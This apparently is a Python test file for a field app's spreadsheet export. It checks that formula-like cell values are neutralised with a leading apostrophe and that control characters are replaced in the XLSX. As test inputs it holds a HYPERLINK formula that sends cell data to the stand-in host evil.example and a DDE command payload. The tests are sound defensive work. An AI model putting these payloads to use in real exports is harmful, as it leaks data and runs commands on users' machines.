"""Exports open in a spreadsheet as data: a cell that starts like a formula is neutralised."""

from __future__ import annotations

import io
import uuid
import zipfile

import pytest

from fieldapp.common import spreadsheet
from tests.spreadsheets import csv_records, workbook

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("+32 470 12 34 56", "'+32 470 12 34 56"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-0.50", "-0.50"),
        ("+1,5", "+1,5"),
        ("Een gewone notitie = goed", "Een gewone notitie = goed"),
        (-3, -3),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_neutralised(value, shown):
    assert spreadsheet.cell(value) == shown


def test_a_formula_in_a_note_stays_text_in_the_subject_access_export(client, auth, make):
    world = make.world()
    auth.login(world.counsellor.email)
    note = {"note_uuid": str(uuid.uuid4()), "revision_uuid": str(uuid.uuid4()), "body": FORMULA}
    assert client.post(f"/api/visits/{world.visit.id}/notes", json=note).status_code == 201
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/clients/{world.client.id}/export").data))
    rows = csv_records(archive.read("visit_notes.csv"))
    assert [row["body"] for row in rows] == ["'" + FORMULA]
    notes = workbook(archive.read("client.xlsx"))["visit_notes"]
    body = next(cell for cell in notes[2] if cell.value == FORMULA)
    assert body.data_type == "s"  # text, not a formula


def test_control_characters_in_a_note_read_as_replacement_characters_in_the_xlsx(
    client, auth, make
):
    """A workbook cannot hold them; the CSV keeps the note as it was written."""
    world = make.world()
    auth.login(world.counsellor.email)
    body = "Bel\x07 morgen \x1b[31mdringend\x0b"
    note = {"note_uuid": str(uuid.uuid4()), "revision_uuid": str(uuid.uuid4()), "body": body}
    assert client.post(f"/api/visits/{world.visit.id}/notes", json=note).status_code == 201
    export = client.get(f"/clients/{world.client.id}/export")
    assert export.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(export.data))
    assert [row["body"] for row in csv_records(archive.read("visit_notes.csv"))] == [body]
    notes = workbook(archive.read("client.xlsx"))["visit_notes"]
    assert "Bel\ufffd morgen \ufffd[31mdringend\ufffd" in [cell.value for cell in notes[2]]
